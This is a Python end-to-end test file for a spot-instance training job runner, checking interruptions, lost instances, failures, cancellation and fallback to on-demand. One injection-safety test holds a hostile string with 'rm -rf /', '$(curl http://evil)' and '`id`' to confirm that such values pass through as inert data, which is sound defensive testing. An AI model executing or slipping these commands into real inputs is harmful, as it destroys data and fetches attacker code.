"""End to end through the local runtime: real moto server, real agent processes, real events.

One runtime serves the module; it puts every EC2 event on the bus twice and in a shuffled
order, so each test here also checks that duplicates and reordering do no harm.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator

import pytest

from infra.local.market import ChaosSchedule
from infra.local.runtime import LocalRuntime, RuntimeOptions
from respot.core.job import AttemptEnd, Market
from respot.wire.messages import new_job_id
from tests.e2e.helpers import (
    Invariants,
    assert_launches_match_attempts,
    counting_spec,
    expected_total,
    output,
    wait_for,
    wait_no_live_instances,
)

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

SCALE = 1.0 / 30.0  # a two-minute notice lasts 4 s


@pytest.fixture(scope="module")
def rt() -> Iterator[LocalRuntime]:
    chaos = ChaosSchedule(job_ids=set())  # interrupt only the jobs a test names
    options = RuntimeOptions(
        time_scale=SCALE, chaos=chaos, duplicate_events=True, reorder_events=True
    )
    with LocalRuntime(options) as runtime:
        yield runtime


@pytest.fixture
def invariants(rt: LocalRuntime) -> Iterator[Invariants]:
    watch = Invariants(rt)
    yield watch
    watch.stop()
    assert watch.violations == []


def test_interrupted_jobs_complete_exactly_once_with_their_work_intact(
    rt: LocalRuntime, invariants: Invariants
) -> None:
    # GIVEN three jobs at once; two are interrupted twice, 4 s after their instances boot.
    # An attempt trains at most 8 s (4 s to its notice, then up to 4 s of notice hold until
    # its successor is warm), 400 steps of 0.02 s: two attempts cannot finish 900 steps. With
    # 500, the second attempt could complete during its hold, and a notice delivered after
    # that completion (events are shuffled here) is no interruption (seen once in CI).
    assert rt.market is not None
    steps = 900
    specs = [
        counting_spec(f"count-{n}", seed=n, hyperparameters={"steps": steps}) for n in range(3)
    ]
    ids = [new_job_id(s.name) for s in specs]
    for job_id in ids[:2]:
        for attempt in (1, 2):
            rt.market.chaos.add(job_id, attempt, 120.0)
    # WHEN they run with every EC2 event duplicated and reordered
    handles = [rt.run(spec, job_id=job_id) for spec, job_id in zip(specs, ids, strict=True)]
    results = [h.wait(timeout=480, poll_seconds=0.3) for h in handles]
    # THEN each completes with the exact total of an uninterrupted run and nothing left behind
    for n, (handle, status) in enumerate(zip(handles, results, strict=True)):
        record = status.record
        assert record is not None and status.state == "COMPLETED", record.timeline[-3:]
        assert int(output(rt, handle.job_id, "weights.sha256")) == expected_total(steps, n)
        assert_launches_match_attempts(rt, record)
        wait_no_live_instances(rt, handle.job_id)
        assert invariants.max_live[handle.job_id] <= 2
    for status in results[:2]:
        record = status.record
        assert record is not None
        assert record.interruptions == 2, [
            (
                a.number,
                a.placement.market,
                a.end,
                a.launched_at,
                a.started_at,
                a.restored_step,
                a.last_step,
                a.notice_at,
                a.ended_at,
            )
            for a in record.attempts
        ]
        restored = [a.restored_step for a in record.attempts[1:]]
        # An attempt noticed before it trained (e.g. still warming up) stopped where it began.
        stopped = [
            a.last_step if a.last_step is not None else a.restored_step
            for a in record.attempts[:-1]
        ]
        assert restored == stopped, (restored, stopped)  # no step lost at either notice
        assert all(a.end is AttemptEnd.INTERRUPTED for a in record.attempts[:-1])
    assert results[2].record is not None and results[2].record.interruptions == 0


def test_instance_lost_without_notice_resumes_from_the_newest_checkpoint(
    rt: LocalRuntime, invariants: Invariants
) -> None:
    assert rt.fleet is not None
    # The instance must still be training when the test kills it: once the record shows the
    # checkpoint of step 80, at least 820 steps of 0.02 s (16 s) remain, however late the
    # record and this loop see it; the resumed attempt runs fast.
    steps = 900
    handle = rt.run(
        counting_spec("lost", hyperparameters={"steps": steps, "resumed_step_seconds": 0.005})
    )

    def checkpointed() -> bool:
        record = handle.record()
        return bool(record and record.checkpoint and record.checkpoint.step >= 80)

    wait_for(checkpointed, timeout=240, what="the checkpoint of step 80")
    (inst,) = [i for i in rt.fleet.live() if i.job_id == handle.job_id]
    rt.fleet.terminate(inst.instance_id, "hardware failure")  # no notice, no checkpoint
    status = handle.wait(timeout=480, poll_seconds=0.3)
    record = status.record
    assert record is not None and status.state == "COMPLETED"
    assert record.attempts[0].end is AttemptEnd.LOST and record.interruptions == 1
    second = record.attempts[1]
    assert second.restored_step is not None and second.restored_step >= 80
    assert int(output(rt, handle.job_id, "weights.sha256")) == expected_total(steps, 2)
    wait_no_live_instances(rt, handle.job_id)


def test_failing_session_fails_the_job_with_its_log(rt: LocalRuntime) -> None:
    handle = rt.run(counting_spec("fails", entry_point="e2esessions.counting:FailingSession"))
    status = handle.wait(timeout=240, poll_seconds=0.3)
    record = status.record
    assert record is not None and status.state == "FAILED"
    assert "ZeroDivisionError" in (record.reason or "")
    tail = record.timeline[-1].data["log_tail"]
    assert any("about to fail" in line for line in tail)
    wait_no_live_instances(rt, handle.job_id)


def test_cancel_stops_a_running_job_and_its_instance(rt: LocalRuntime) -> None:
    handle = rt.run(counting_spec("cancel-me", hyperparameters={"steps": 5000}))
    end = time.monotonic() + 60
    while handle.status().state != "RUNNING" and time.monotonic() < end:
        time.sleep(0.1)
    handle.cancel("no longer needed")
    status = handle.wait(timeout=120, poll_seconds=0.2)
    assert status.state == "CANCELLED"
    assert status.reason is not None and "no longer needed" in status.reason
    wait_no_live_instances(rt, handle.job_id)


def test_shell_like_values_reach_the_training_process_as_inert_data(rt: LocalRuntime) -> None:
    nasty = "x; rm -rf / $(curl http://evil) `id` 'quoted' \"double\"\nnext line"
    handle = rt.run(
        counting_spec(
            "inert", hyperparameters={"steps": 20, "label": nasty}, environment={"E2E_VALUE": nasty}
        )
    )
    status = handle.wait(timeout=240, poll_seconds=0.3)
    assert status.state == "COMPLETED"
    assert json.loads(output(rt, handle.job_id, "env.json")) == {"E2E_VALUE": nasty}
    assert json.loads(output(rt, handle.job_id, "hparams.json"))["label"] == nasty


def test_without_spot_capacity_the_job_falls_back_to_on_demand() -> None:
    # GIVEN a market whose every spot pool is empty, and a job that waits 5 s for spot (the
    # job's own durations are wall-clock time: the runtime scales only what EC2 does)
    from infra.local.market import Trace

    empty = Trace("empty", 600, (0,) * 10)
    with LocalRuntime(RuntimeOptions(time_scale=SCALE, traces=[empty])) as local:
        handle = local.run(
            counting_spec("no-spot", max_spot_wait="5s", hyperparameters={"steps": 30})
        )
        status = handle.wait(timeout=240, poll_seconds=0.3)
        record = status.record
        assert record is not None and status.state == "COMPLETED", record.timeline[-4:]
        assert [a.placement.market for a in record.attempts] == [Market.ON_DEMAND]
        assert record.policy["capacity_misses"] >= 1
        kinds = [e.kind for e in record.timeline]
        assert "fallback" in kinds and "waiting" in kinds
        assert local.market is not None and local.market.refusals
